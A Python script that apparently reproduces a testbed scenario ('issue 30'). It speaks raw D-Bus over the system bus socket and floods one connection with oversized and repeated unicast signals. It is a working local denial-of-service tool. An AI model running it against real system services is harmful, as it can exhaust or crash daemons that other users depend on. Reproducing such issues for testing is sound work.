#!/usr/bin/env python3
# dbus-flood: a local user's flood of unicast signals to one connection on the system bus (the
# testbed's issue 30 scenario): ROUNDS times, one signal carrying BIG bytes (over altbeacond's
# 1 MiB) and SMALL signals of a few bytes, each with NO_REPLY_EXPECTED. Its own tiny D-Bus client
# (EXTERNAL authentication, Hello, then signals), so it runs as any user with python3 alone.
# usage: dbus-flood.py DESTINATION [--rounds N] [--big BYTES] [--small N] [--bus PATH]
import argparse, os, socket, struct, sys

def pad(b, n):
    return b + b"\0" * ((-len(b)) % n)

def field(buf, code, sig, value):
    buf = pad(buf, 8) + bytes([code, len(sig)]) + sig.encode() + b"\0"
    if sig in ("s", "o"):
        v = value.encode()
        buf = pad(buf, 4) + struct.pack("<I", len(v)) + v + b"\0"
    elif sig == "g":
        v = value.encode()
        buf += bytes([len(v)]) + v + b"\0"
    return buf

def message(kind, serial, fields, body=b"", flags=0):
    # header field alignment counts from the message's start: the array's items start at 16
    tmp = b"\0" * 16
    for f in fields:
        tmp = field(tmp, *f)
    arr = tmp[16:]
    head = b"l" + bytes([kind, flags, 1]) + struct.pack("<III", len(body), serial, len(arr)) + arr
    return pad(head, 8) + body

def main():
    p = argparse.ArgumentParser()
    p.add_argument("destination")
    p.add_argument("--rounds", type=int, default=3)
    p.add_argument("--big", type=int, default=1_100_000)
    p.add_argument("--small", type=int, default=500)
    p.add_argument("--bus", default="/run/dbus/system_bus_socket")
    a = p.parse_args()
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(a.bus)
    s.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
    line = s.recv(256)
    if not line.startswith(b"OK"):
        sys.exit("dbus-flood: authentication refused: %r" % line)
    s.sendall(b"BEGIN\r\n")
    serial = 1
    s.sendall(message(1, serial, [(1, "o", "/org/freedesktop/DBus"), (2, "s", "org.freedesktop.DBus"),
                                  (3, "s", "Hello"), (6, "s", "org.freedesktop.DBus")]))
    target = [(1, "o", "/flood"), (2, "s", "org.example.Flood"), (6, "s", a.destination), (8, "g", "ay")]
    sent = 0
    for _ in range(a.rounds):
        serial += 1
        big = struct.pack("<I", a.big) + b"\x5a" * a.big
        s.sendall(message(4, serial, target[:2] + [(3, "s", "Big")] + target[2:], big, flags=1))
        sent += 1
        for _ in range(a.small):
            serial += 1
            s.sendall(message(4, serial, target[:2] + [(3, "s", "Small")] + target[2:], struct.pack("<I", 3) + b"abc", flags=1))
            sent += 1
    print("dbus-flood: %d signals to %s" % (sent, a.destination))
    s.close()

main()
